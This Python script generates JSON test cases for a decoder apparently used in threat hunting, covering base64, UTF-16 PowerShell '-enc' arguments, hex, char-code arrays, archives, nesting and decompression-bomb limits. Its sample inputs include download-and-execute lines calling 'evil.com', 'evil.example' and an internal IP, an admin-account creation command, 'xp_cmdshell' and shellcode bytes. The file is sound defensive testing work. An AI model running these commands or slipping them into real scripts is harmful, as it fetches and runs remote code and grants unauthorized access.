"""Writes the decode case corpus (tests/cases/decode/*.json).

Payloads are built with Python's standard library (base64, gzip, zlib, zipfile, tarfile) with
fixed timestamps, and every expected hash, size and decoded text is computed here from those
payloads, independently of hg_decode. Structural expectations (index, chain, reference, which
limit stops a layer) are written by hand from the rules in crates/hg_decode/src/lib.rs.
Run: python3 tests/cases/decode/gen_cases.py  (deterministic; commit the JSON it writes).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import tarfile
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
SAMPLES = HERE.parents[3] / "shared" / "data" / "msticpy-testdata"
SCHEMA = "huntglass-decode-cases/1"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


def raw_deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


def zip_of(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, data)
    return buf.getvalue()


def tar_of(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def row(data: bytes | None = None, **fields) -> dict:
    """An expected row; `data` (the layer's bytes) gives md5, sha256, size and, for text
    rows, `decoded` when not given."""
    out = dict(fields)
    if data is not None:
        out["md5"] = hashlib.md5(data).hexdigest()
        out["sha256"] = hashlib.sha256(data).hexdigest()
        out["size"] = len(data)
        enc = out.get("encoding_type")
        if "decoded" not in out and enc == "utf-8" and len(data) <= 4096:
            out["decoded"] = data.decode("utf-8")
    return out


def case(name: str, input: str, expected: list[dict], reference: str = "same", **extra) -> dict:
    c = {"name": name, "input": input}
    if "options" in extra:
        c["options"] = extra.pop("options")
    c["expected"] = expected
    c.update(extra)
    c["reference"] = reference
    return c


# ---------------------------------------------------------------- encodings, one at a time
def encodings() -> list[dict]:
    cases = []
    iex = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.com/a')"
    cases.append(
        case(
            "base64 text after -enc that is UTF-8 (the reference's example)",
            f"powershell -enc {b64(iex.encode())} -nop",
            [
                row(
                    iex.encode(),
                    index="1",
                    reference=["", "1.", "1"],
                    chain=["base64"],
                    file_name="unknown",
                    file_type=None,
                    encoding_type="utf-8",
                    original_string=b64(iex.encode()),
                )
            ],
            full_decoded_string=(
                "powershell -enc <decoded type='string' name='[None]' index='1' depth='1'>"
                + iex
                + "</decoded> -nop"
            ),
            why="valid UTF-8 after -enc stays UTF-8 "
            "(md5 28dd8a2c68840a877cde76cdde731f33 as observed)",
        )
    )
    ps = 'IEX (New-Object Net.WebClient).DownloadString("http://10.1.2.3/a.ps1")'
    for switch in ["-EncodedCommand", "-enc", "-e", "-ec", "/enc", "-EnC"]:
        cases.append(
            case(
                f"PowerShell {switch} UTF-16LE",
                f"powershell.exe -NoP -W Hidden {switch} {b64(utf16(ps))}",
                [
                    row(
                        utf16(ps),
                        index="1",
                        chain=["base64", "utf16le"],
                        encoding_type="utf-16",
                        decoded=ps,
                    )
                ],
                reference="differs: decoded as UTF-8 with NUL characters (utf16=False) or "
                "tried as UTF-16 for every layer (utf16=True)",
                why="PowerShell -EncodedCommand is always UTF-16LE",
            )
        )
    cases.append(
        case(
            "short -e argument below 30 characters",
            f"powershell -e {b64(utf16('dir'))}",
            [row(utf16("dir"), chain=["base64", "utf16le"], encoding_type="utf-16", decoded="dir")],
            reference="differs: runs under 30 characters are never candidates",
            why="a base64 argument of -EncodedCommand is decoded whatever its length",
        )
    )
    cases.append(
        case(
            "short run after an unrelated switch is not decoded",
            "powershell -ep bypass -w hidden -c dir",
            [],
        )
    )
    cases.append(
        case(
            "UTF-16LE with a byte-order mark",
            "blob " + b64(b"\xff\xfe" + utf16("text with a byte order mark")),
            [
                row(
                    b"\xff\xfe" + utf16("text with a byte order mark"),
                    chain=["base64", "utf16le"],
                    encoding_type="utf-16",
                    decoded="text with a byte order mark",
                )
            ],
            reference="differs: binary unless utf16=True",
        )
    )
    # URL-safe base64 needs '-' or '_' in the text.
    url_text = b"GET /api?query=~~~>>>???&token=zzz_ok ~~~>>>???"
    url = base64.urlsafe_b64encode(url_text).decode().rstrip("=")
    assert "-" in url or "_" in url
    cases.append(
        case(
            "URL-safe base64 without padding",
            f"cookie={url}; path=/",
            [row(url_text, chain=["base64url"], encoding_type="utf-8", original_string=url)],
            reference="differs: URL-safe base64 is not recognised",
        )
    )
    cases.append(
        case(
            "URL-safe-looking identifiers are not decoded",
            "set some_very_long_identifier_name_that_is_not_encoded=1",
            [],
            why="URL-safe base64 must decode to text or a known file signature",
        )
    )
    hello = b"hello world from a hex string"
    cases.append(
        case(
            "plain hex run",
            f"cmd /c echo {hello.hex()} | xxd -r -p",
            [row(hello, chain=["hex"], encoding_type="utf-8", original_string=hello.hex())],
            reference="differs: no hex decoding (this run is also not valid base64: 58 characters)",
        )
    )
    md5 = hashlib.md5(b"x").hexdigest()
    cases.append(
        case(
            "a hash is not hex-decoded; the base64 rule reports it as binary like the reference",
            f"hash {md5} seen",
            [row(base64.b64decode(md5), chain=["base64"], encoding_type="binary")],
            why="32 characters of the base64 alphabet are a base64 candidate in the reference too",
        )
    )
    shell = bytes([0xFC, 0x48, 0x83, 0xE4, 0xF0, 0xE8, 0xC0, 0x00])
    esc = "".join(f"\\x{b:02x}" for b in shell)
    cases.append(
        case(
            "\\x escapes (binary shellcode)",
            f'buf = b"{esc}"',
            [row(shell, chain=["hex"], encoding_type="binary", original_string=esc)],
            reference="differs: no hex decoding",
        )
    )
    lst = ",".join(f"0x{b:02x}" for b in b"calc.exe")
    cases.append(
        case(
            "0x byte list",
            f"[Byte[]] $b = {lst}",
            [row(b"calc.exe", chain=["hex"], encoding_type="utf-8", original_string=lst)],
            reference="differs: no hex decoding",
        )
    )
    cases.append(
        case(
            "0x literal",
            f"SELECT CAST(0x{b'xp_cmdshell'.hex()} AS varchar)",
            [row(b"xp_cmdshell", chain=["hex"], encoding_type="utf-8")],
            reference="differs: no hex decoding",
        )
    )
    cases.append(
        case(
            "short 0x numbers are not content unless they read as text",
            '"LogonUI.exe" /flags:0x2 /state0:0xa3b92855 /state1:0x41c64e6d tag=0x74657374',
            [row(b"test", chain=["hex"], encoding_type="utf-8")],
            reference="differs: no hex decoding",
            why="a 0x literal of at most 16 digits is a number (flags, handles, 64-bit values), "
            "reported only when its bytes are plausible text or a known signature; longer ones "
            "are explicit hex content",
        )
    )
    cases.append(
        case(
            "decimal numbers are not hex content",
            "chrome.exe --type=utility --field-trial-handle=1948,i,4449205874793465,262144 "
            "/prefetch:3 id=18446744073709551615",
            [],
            why="a run of up to 20 decimal digits (a 64-bit number: handles, ids) is a number; "
            "longer digit runs and runs with a-f are read as hex",
        )
    )
    cases.append(
        case(
            "percent-encoding",
            "GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1",
            [row(b"/search?q=<script>alert(1)</script>", chain=["percent"], encoding_type="utf-8")],
            reference="differs: no percent decoding",
        )
    )
    cases.append(
        case(
            "two percent escapes are not enough",
            "100%25 of 50%20 users",
            [],
        )
    )
    word = "IEX (iwr http://a.b/c)"
    codes = ",".join(str(ord(c)) for c in word)
    cases.append(
        case(
            "[char[]] array joined",
            f"&([char[]]({codes}) -join '')",
            [
                row(
                    word.encode(),
                    chain=["char_codes"],
                    encoding_type="utf-8",
                    original_string=f"[char[]]({codes})",
                )
            ],
            reference="differs: no char-code decoding",
        )
    )
    cases.append(
        case(
            "[char]N,N,... list",
            f"$c = [char]{codes}",
            [row(word.encode(), chain=["char_codes"], encoding_type="utf-8")],
            reference="differs: no char-code decoding",
        )
    )
    plus = "+".join(f"[char]{ord(c)}" for c in "IEX ")
    cases.append(
        case(
            "[char]N+[char]N concatenation",
            f"& ({plus})",
            [row(b"IEX ", chain=["char_codes"], encoding_type="utf-8", original_string=plus)],
            reference="differs: no char-code decoding",
        )
    )
    cases.append(
        case(
            "JavaScript String.fromCharCode",
            f"eval(String.fromCharCode({codes}))",
            [row(word.encode(), chain=["char_codes"], encoding_type="utf-8")],
            reference="differs: no char-code decoding",
        )
    )
    text = b"gzip compressed text inside base64 " * 3
    cases.append(
        case(
            "gzip",
            "data: " + b64(gz(text)),
            [
                row(
                    text,
                    chain=["base64", "gzip"],
                    file_name="gzip_file",
                    file_type="gz",
                    encoding_type="utf-8",
                )
            ],
            full_decoded_string="data: <decoded type='string' name='[gz] Filename: gzip_file' "
            f"index='1' depth='1'>{text.decode()}</decoded>",
        )
    )
    cases.append(
        case(
            "zlib",
            "z=" + b64(zlib.compress(text, 9)),
            [row(text, chain=["base64", "zlib"], file_type="zlib", encoding_type="utf-8")],
            reference="differs: zlib stays compressed (binary)",
        )
    )
    script = b"Write-Host 'raw deflate payload'; Start-Process calc.exe"
    idiom = (
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{b64(raw_deflate(script))}'),"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    cases.append(
        case(
            "PowerShell FromBase64String + DeflateStream",
            idiom,
            [row(script, chain=["base64", "deflate"], file_type="deflate", encoding_type="utf-8")],
            reference="differs: raw deflate stays compressed (binary)",
        )
    )
    return cases


# ---------------------------------------------------------------- nesting
def nesting() -> list[dict]:
    cases = []
    inner_text = b"this is the inner secret payload string!!"
    outer_text = b"outer wrapper text " + b64(inner_text).encode() + b" end"
    cases.append(
        case(
            "base64 inside base64 (the reference's nested example)",
            b64(outer_text),
            [
                row(
                    outer_text,
                    index="1",
                    reference=["", "1.", "1"],
                    chain=["base64"],
                    encoding_type="utf-8",
                ),
                row(
                    inner_text,
                    index="1.1",
                    parent="1",
                    reference=["1.", "2.", "1"],
                    chain=["base64"],
                    encoding_type="utf-8",
                ),
            ],
            full_decoded_string="<decoded type='string' name='[None]' index='1' depth='1'>"
            "outer wrapper text <decoded type='string' name='[None]' index='1.1' depth='2'>"
            f"{inner_text.decode()}</decoded> end</decoded>",
        )
    )
    core = b"final layer: net user admin P@ssw0rd /add"
    mid = b64(core).encode()
    cases.append(
        case(
            "base64 of gzip of base64",
            "x " + b64(gz(mid)),
            [
                row(
                    mid, index="1", chain=["base64", "gzip"], file_type="gz", encoding_type="utf-8"
                ),
                row(
                    core,
                    index="1.1",
                    reference=["1.", "2.", "1"],
                    chain=["base64"],
                    encoding_type="utf-8",
                ),
            ],
        )
    )
    stage2 = "Start-Process -WindowStyle Hidden calc.exe; whoami /all"
    stage1 = (
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
        + b64(gz(stage2.encode()))
        + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    cases.append(
        case(
            "PowerShell -enc whose script inflates a GzipStream payload",
            f"powershell -nop -enc {b64(utf16(stage1))}",
            [
                row(
                    utf16(stage1),
                    index="1",
                    chain=["base64", "utf16le"],
                    encoding_type="utf-16",
                    decoded=stage1,
                ),
                row(
                    stage2.encode(),
                    index="1.1",
                    chain=["base64", "gzip"],
                    file_type="gz",
                    encoding_type="utf-8",
                ),
            ],
            reference="differs: the first layer reads as UTF-8 with NULs, so the inner base64 "
            "is split by NULs and never found",
        )
    )
    secret = b"percent-wrapped base64 secret payload, decoded twice"
    enc = b64(secret).replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")
    token = f"u?d={enc}%26x%3D1"
    cases.append(
        case(
            "percent-encoded base64",
            f"GET {token}",
            [
                row(None, index="1", chain=["percent"], encoding_type="utf-8"),
                row(secret, index="1.1", chain=["base64"], encoding_type="utf-8"),
            ],
            reference="differs: the reference sees only the base64 run before the first escape",
        )
    )
    hex_inner = b64(b"hex wrapped base64 of a command line").encode()
    cases.append(
        case(
            "hex of base64",
            "payload " + hex_inner.hex(),
            [
                row(hex_inner, index="1", chain=["hex"], encoding_type="utf-8"),
                row(
                    b"hex wrapped base64 of a command line",
                    index="1.1",
                    chain=["base64"],
                    encoding_type="utf-8",
                ),
            ],
            reference="differs: no hex decoding",
        )
    )
    # Four levels of base64; with max_depth 2 the third level is reported, not decoded.
    level = b"the deepest layer of this onion text"
    layers = [level]
    for _ in range(3):
        layers.append(b"wrap " + b64(layers[-1]).encode() + b" wrap")
    cases.append(
        case(
            "depth limit",
            b64(layers[-1]),
            [
                row(layers[3], index="1", chain=["base64"], encoding_type="utf-8"),
                row(layers[2], index="1.1", chain=["base64"], encoding_type="utf-8"),
                row(
                    None,
                    index="1.1.1",
                    reference=["1.1.", "3.", "1"],
                    chain=[],
                    stopped_by="max_depth",
                    size=0,
                    original_string=b64(layers[1]),
                ),
            ],
            options={"max_depth": 2},
        )
    )
    cases.append(
        case(
            "depth limit default is 20",
            b64(layers[-1]),
            [
                row(layers[3], index="1"),
                row(layers[2], index="1.1"),
                row(layers[1], index="1.1.1"),
                row(layers[0], index="1.1.1.1", reference=["1.1.1.", "4.", "1"]),
            ],
        )
    )
    return cases


# ---------------------------------------------------------------- archives
def archives() -> list[dict]:
    cases = []
    a_txt = b"hello from a.txt in a zip archive"
    b_bin = bytes(range(256))
    z = zip_of([("a.txt", a_txt), ("b.bin", b_bin)])
    cases.append(
        case(
            "zip with a text and a binary member (the reference's example)",
            b64(z),
            [
                row(
                    a_txt,
                    index="1.1",
                    reference=["", "1.", "1"],
                    chain=["base64", "zip"],
                    file_name="a.txt",
                    file_type="zip",
                    encoding_type="utf-8",
                ),
                row(
                    b_bin,
                    index="1.2",
                    reference=["", "1.", "1"],
                    chain=["base64", "zip"],
                    file_name="b.bin",
                    file_type="zip",
                    encoding_type="binary",
                ),
            ],
            full_decoded_string_contains=[
                "<decoded value='multiple binary' type='multiple' index='1' depth='1'>",
                "<decoded type='string' name='[zip] Filename: a.txt' index='1.1' depth='2'>",
                "<decoded value='binary'  name='[zip] Filename: b.bin' type='zip' index='1.2' "
                "depth='2'>00 01 02",
            ],
        )
    )
    note = b"a gzip member: the reference leaves it compressed"
    note_gz = gz(note)
    t = tar_of([("readme.txt", b"plain member"), ("note.txt.gz", note_gz)])
    cases.append(
        case(
            "tar with a .gz member",
            "tar: " + b64(t),
            [
                row(
                    b"plain member",
                    index="1.1",
                    chain=["base64", "tar"],
                    file_name="readme.txt",
                    file_type="tar",
                    encoding_type="utf-8",
                ),
                row(
                    note_gz,
                    index="1.2",
                    chain=["base64", "tar"],
                    file_name="note.txt.gz",
                    file_type="tar",
                    encoding_type="binary",
                ),
                row(
                    note,
                    index="1.2.1",
                    parent="1.2",
                    reference=["1.2.", "1.", "1"],
                    chain=["base64", "tar", "gzip"],
                    file_name="gzip_file",
                    file_type="gz",
                    encoding_type="utf-8",
                ),
            ],
            reference="differs: the .gz member is reported compressed only (no row 1.2.1)",
            why="members are sniffed, so a compressed member is expanded into a child layer",
        )
    )
    z2 = zip_of([("only.ps1", b"Write-Host single member")])
    cases.append(
        case(
            "zip with one member keeps the archive's index",
            b64(z2),
            [
                row(
                    b"Write-Host single member",
                    index="1",
                    chain=["base64", "zip"],
                    file_name="only.ps1",
                    file_type="zip",
                    encoding_type="utf-8",
                )
            ],
            full_decoded_string="<decoded type='string' name='[zip] Filename: only.ps1' "
            "index='1' depth='1'>Write-Host single member</decoded>",
        )
    )
    zg = zip_of([("inner.gz", gz(b"gz inside zip"))])
    cases.append(
        case(
            "zip with a .gz member",
            b64(zg),
            [
                row(
                    gz(b"gz inside zip"),
                    index="1",
                    chain=["base64", "zip"],
                    file_name="inner.gz",
                    encoding_type="binary",
                ),
                row(
                    b"gz inside zip",
                    index="1.1",
                    chain=["base64", "zip", "gzip"],
                    file_type="gz",
                    encoding_type="utf-8",
                ),
            ],
            reference="differs: the .gz member is reported compressed only",
        )
    )
    stored = zip_of([("s.txt", b"stored, not deflated"), ("t.txt", b"second")], zipfile.ZIP_STORED)
    cases.append(
        case(
            "stored (uncompressed) zip",
            b64(stored),
            [
                row(
                    b"stored, not deflated", index="1.1", chain=["base64", "zip"], file_name="s.txt"
                ),
                row(b"second", index="1.2", chain=["base64", "zip"], file_name="t.txt"),
            ],
            reference="differs: only zips starting UEsDBBQAAAAIA (deflate) are recognised; "
            "this one is one binary row",
            why="the archive is recognised by its signature, not by one base64 prefix",
        )
    )
    tgz = gz(tar_of([("x.sh", b"curl http://evil.example/x | sh")]))
    cases.append(
        case(
            "tar.gz",
            b64(tgz),
            [
                row(
                    b"curl http://evil.example/x | sh",
                    index="1",
                    chain=["base64", "gzip", "tar"],
                    file_name="x.sh",
                    file_type="tar",
                    encoding_type="utf-8",
                )
            ],
            reference="differs: one gz row holding the tar bytes",
        )
    )
    cases.append(
        case(
            "reference mode: tar.gz stays one gz row",
            b64(tgz),
            [
                row(
                    gzip.decompress(tgz),
                    index="1",
                    chain=["base64", "gzip"],
                    file_name="gzip_file",
                    file_type="gz",
                    encoding_type="utf-8",
                )
            ],
            why="a tar of ASCII text is valid UTF-8, as Python's decode agrees",
            options={"reference_mode": True},
        )
    )
    return cases


# ---------------------------------------------------------------- limits and bombs
def limits() -> list[dict]:
    cases = []
    zeros = gz(bytes(2_000_000))
    cases.append(
        case(
            "gzip bomb stopped by the expansion ratio",
            "x " + b64(zeros),
            [
                row(
                    bytes(len(zeros) * 100),
                    chain=["base64", "gzip"],
                    file_type="gz",
                    stopped_by="max_expansion_ratio",
                    encoding_type="utf-8",
                )
            ],
            options={"expansion_floor_bytes": 1024},
            why="2,000,000 zeros from a few KB: at most 100 x the compressed size is read",
        )
    )
    cases.append(
        case(
            "gzip bomb stopped by the total output",
            "x " + b64(zeros),
            [
                row(
                    bytes(50_000 - len(zeros)),
                    chain=["base64", "gzip"],
                    stopped_by="max_total_output_bytes",
                )
            ],
            options={"max_total_output_bytes": 50_000},
            why="the base64 bytes count too: the gzip may add 50,000 minus the compressed size",
        )
    )
    many = zip_of([(f"m{i:02}.txt", f"member {i}".encode()) for i in range(20)])
    cases.append(
        case(
            "zip with more members than allowed",
            b64(many),
            [
                row(f"member {i}".encode(), index=f"1.{i + 1}", file_name=f"m{i:02}.txt")
                for i in range(5)
            ]
            + [
                row(
                    None,
                    index="1.6",
                    chain=["base64", "zip"],
                    stopped_by="max_archive_members",
                    size=0,
                )
            ],
            options={"max_archive_members": 5},
        )
    )
    big = zip_of([("big.bin", bytes(2_000_000))])
    cases.append(
        case(
            "zip member larger than allowed",
            b64(big),
            [
                row(
                    bytes(10_000),
                    chain=["base64", "zip"],
                    file_name="big.bin",
                    stopped_by="max_member_size",
                )
            ],
            options={"max_member_size": 10_000},
        )
    )
    nested = zip_of([("inner.zip", zip_of([("deep.zip", zip_of([("core.txt", b"core")]))]))])
    cases.append(
        case(
            "zip in zip in zip",
            b64(nested),
            [
                row(None, index="1", file_name="inner.zip", encoding_type="binary"),
                row(None, index="1.1", file_name="deep.zip", chain=["base64", "zip", "zip"]),
                row(
                    b"core",
                    index="1.1.1",
                    file_name="core.txt",
                    chain=["base64", "zip", "zip", "zip"],
                ),
            ],
            reference="differs: only the outer member is reported",
        )
    )
    texts = [f"candidate number {i} with enough text".encode() for i in range(5)]
    cases.append(
        case(
            "record limit",
            " ".join(b64(t) for t in texts),
            [row(t) for t in texts[:3]] + [row(None, stopped_by="max_records", size=0)],
            options={"max_records": 3},
        )
    )
    return cases


# ---------------------------------------------------------------- malformed input
def malformed() -> list[dict]:
    cases = []
    cases.append(case("empty input", "", []))
    cases.append(case("only line breaks", "\r\n" * 40, []))
    cases.append(
        case(
            "29 characters are not a candidate",
            "A" * 29,
            [],
        )
    )
    cases.append(
        case(
            "32 characters decode (observed QUFB x 8 -> 24 A)",
            "QUFB" * 8,
            [row(b"A" * 24, chain=["base64"], encoding_type="utf-8")],
        )
    )
    cases.append(case("one more than a multiple of four", "QUFB" * 8 + "Q", []))
    cases.append(case("missing padding", "QUFB" * 8 + "QQ", []))
    cases.append(
        case(
            "padded",
            "QUFB" * 8 + "QQ==",
            [row(b"A" * 25, chain=["base64"], encoding_type="utf-8")],
        )
    )
    trunc = gz(b"truncated gzip stream content " * 20)[:-12]
    cases.append(
        case(
            "truncated gzip",
            b64(trunc),
            [row(None, chain=["base64", "gzip"], file_type="gz", error=True)],
        )
    )
    cut = zip_of([("a.txt", b"aaaa"), ("b.txt", b"bbbb")])[:-30]
    cases.append(
        case(
            "truncated zip (central directory cut)",
            b64(cut),
            [row(cut, chain=["base64"], file_type="zip", error=True, encoding_type="binary")],
            why="nothing can be listed: the archive bytes are reported with the error",
        )
    )
    junk_tar = bytearray(tar_of([("f.txt", b"x y " * 150)]))
    junk_tar[148:156] = b"0000000\0"  # wrong header checksum
    cases.append(
        case(
            "tar with a bad header checksum",
            b64(bytes(junk_tar)),
            [row(bytes(junk_tar), chain=["base64"], file_type="tar", error=True)],
        )
    )
    cases.append(case("surrogate char code", "[char[]](55296,55297,55298,55299)", []))
    cases.append(case("odd hex run", "0123456789abcdef0", []))
    cases.append(case("invalid percent escapes", "%zz%zz%zz%zz", []))
    cases.append(
        case(
            "multi-byte text around a candidate",
            "é—ü " + b64(b"unicode neighbours are fine here") + " 日本",
            [row(b"unicode neighbours are fine here", encoding_type="utf-8")],
        )
    )
    return cases


# ---------------------------------------------------------------- reference behaviour
def reference() -> list[dict]:
    cases = []
    t = b64(b"duplicate payload text here ok!")
    cases.append(
        case(
            "the same candidate twice",
            f"{t} and {t}",
            [
                row(b"duplicate payload text here ok!", index="1"),
                row(b"duplicate payload text here ok!", index="2"),
            ],
            reference="differs: one row (every occurrence is replaced by the first one's tag)",
            why="every occurrence has its own offsets; rows are not deduplicated",
        )
    )
    inner = b64(b"the inner payload text that is long enough!!")
    outer = b64(("wrap " + inner + " end").encode())
    cases.append(
        case(
            "a failing candidate after a decoded one",
            f"a {outer} b " + "Q" * 33,
            [
                row(None, index="1"),
                row(b"the inner payload text that is long enough!!", index="1.1"),
            ],
            reference="differs: the last candidate failed, so the reference does not recurse "
            "and misses row 1.1",
        )
    )
    ps = "Get-Process | Stop-Process"
    cases.append(
        case(
            "reference mode: UTF-16LE reads as UTF-8 with NULs",
            f"powershell -enc {b64(utf16(ps))}",
            [row(utf16(ps), chain=["base64"], encoding_type="utf-8")],
            options={"reference_mode": True},
        )
    )
    cases.append(
        case(
            "reference mode with utf16 always",
            f"powershell -enc {b64(utf16(ps))}",
            [row(utf16(ps), chain=["base64", "utf16le"], encoding_type="utf-16", decoded=ps)],
            options={"reference_mode": True, "utf16": "always"},
        )
    )
    msg = (SAMPLES / "base64msg.txt").read_text()
    cases.append(
        case(
            "base64msg.txt (the reference's sample)",
            msg,
            [
                row(
                    None,
                    index="1.1",
                    reference=["", "1.", "1"],
                    file_name="dllenc.txt",
                    file_type="tar",
                    encoding_type="utf-8",
                    md5="9fd687fb66a85f89cc413728a179fb0d",
                ),
                row(
                    None,
                    index="1.1.1",
                    reference=["1.1.", "2.", "1"],
                    encoding_type="binary",
                    md5="69fbfeacd07be73e29b7786f663aba07",
                ),
                row(
                    None,
                    index="1.2",
                    file_name="txtenc.txt",
                    file_type="tar",
                    md5="87adcc213a88d165d4da4ad89827c438",
                ),
                row(
                    None,
                    index="1.2.1",
                    chain=["base64", "utf16le"],
                    encoding_type="utf-16",
                    decoded="text\r\nfile\r\n",
                    md5="3414109cd3c337be290997995549fa96",
                ),
                row(
                    None,
                    index="1.3",
                    file_name="txtenc.txt.gz",
                    file_type="tar",
                    encoding_type="binary",
                    md5="709ca834c405231a89d0c7c9d732fc98",
                ),
                row(
                    None,
                    index="1.3.1",
                    chain=["base64", "tar", "gzip"],
                    md5="87adcc213a88d165d4da4ad89827c438",
                ),
                row(None, index="1.3.1.1", md5="3414109cd3c337be290997995549fa96"),
                row(
                    None,
                    index="2.1",
                    reference=["", "1.", "2"],
                    file_name="dllenc.txt",
                    file_type="zip",
                    md5="9fd687fb66a85f89cc413728a179fb0d",
                ),
                row(None, index="2.1.1", md5="69fbfeacd07be73e29b7786f663aba07"),
                row(None, index="2.2", file_name="txtenc.txt", file_type="zip"),
                row(None, index="2.2.1", md5="3414109cd3c337be290997995549fa96"),
                row(
                    None,
                    index="2.3",
                    file_name="txtenc.txt.gz",
                    file_type="zip",
                    md5="709ca834c405231a89d0c7c9d732fc98",
                ),
                row(None, index="2.3.1", chain=["base64", "zip", "gzip"]),
                row(None, index="2.3.1.1", md5="3414109cd3c337be290997995549fa96"),
            ],
            reference="differs: 8 rows; the depth-2 rows are referenced ('2.', '2.', n) after the "
            "last top-level fragment, found once (duplicates replaced), the .gz members are not "
            "expanded and the UTF-16 text is binary",
            why="the 6 member rows and their hashes are the reference's; the rest are found "
            "because every member is scanned and .gz members are expanded",
        )
    )
    inzip = (SAMPLES / "b64text_inzip.txt").read_text()
    cases.append(
        case(
            "b64text_inzip.txt (the reference's sample)",
            inzip,
            [
                row(
                    None,
                    index="1",
                    reference=["", "1.", "1"],
                    file_name="txtenc.txt",
                    file_type="zip",
                    encoding_type="utf-8",
                    md5="87adcc213a88d165d4da4ad89827c438",
                ),
                row(
                    None,
                    index="1.1",
                    reference=["1.", "2.", "1"],
                    chain=["base64", "utf16le"],
                    encoding_type="utf-16",
                    md5="3414109cd3c337be290997995549fa96",
                ),
            ],
            reference="differs: row 1.1 is binary (utf16=False)",
        )
    )
    return cases


def main() -> None:
    files = {
        "encodings.json": encodings(),
        "nesting.json": nesting(),
        "archives.json": archives(),
        "limits.json": limits(),
        "malformed.json": malformed(),
        "reference.json": reference(),
    }
    for name, cases in files.items():
        names = [c["name"] for c in cases]
        assert len(names) == len(set(names)), f"duplicate case names in {name}"
        body = {"schema": SCHEMA, "cases": cases}
        (HERE / name).write_text(json.dumps(body, indent=1, ensure_ascii=False) + "\n")
        print(f"{name}: {len(cases)} cases")


if __name__ == "__main__":
    main()
